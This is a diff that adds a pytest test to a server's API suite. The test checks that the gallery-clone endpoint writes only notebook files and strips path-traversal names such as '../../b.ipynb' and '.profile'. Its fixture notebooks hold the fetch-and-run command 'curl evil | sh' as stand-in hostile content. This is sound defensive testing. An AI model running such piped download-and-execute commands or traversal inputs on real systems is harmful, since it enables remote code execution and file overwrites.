@@ -246,6 +246,43 @@ def test_a_hostile_page_of_a_run_can_not_act_as_this_server(api: Api, folder: Pa
         assert "sandbox" in answer.headers["content-security-policy"]
 
 
+def test_a_card_chooses_no_file_but_a_notebook(api: Api, folder: Path) -> None:
+    card = {
+        "title": "x",
+        "description": "",
+        "image": None,
+        "published": "2026-01-01T00:00:00Z",
+        "author": "eve",
+    }
+    names = {"a": ".profile", "b": "../../b.ipynb", "c": "run.py", "d": 1, "e": "own.ipynb"}
+    for card_id, name in names.items():
+        (folder / card_id).mkdir()
+        (folder / card_id / "card.json").write_text(json.dumps({**card, "notebook": name}))
+        (folder / card_id / "notebook.ipynb").write_text("curl evil | sh")
+    (folder / "to").mkdir()
+
+    answers = {
+        card_id: api.post(
+            f"/gallery/{card_id}/clone", gallery=folder.name, folder=f"{folder.name}/to"
+        )
+        for card_id in names
+    }
+
+    assert {card_id: answer.status_code for card_id, answer in answers.items()} == {
+        "a": 201,
+        "b": 201,
+        "c": 201,
+        "d": 422,
+        "e": 201,
+    }
+    assert sorted(path.name for path in (folder / "to").iterdir()) == [
+        "b.ipynb",
+        "notebook-2.ipynb",
+        "notebook.ipynb",
+        "own.ipynb",
+    ]
+
+
 @pytest.mark.parametrize("verb", ["PUT", "PATCH", "HEAD", "TRACE"])
 def test_other_verbs_do_nothing(api: Api, verb: str) -> None:
     for path in ("/health", "/jobs", "/space"):
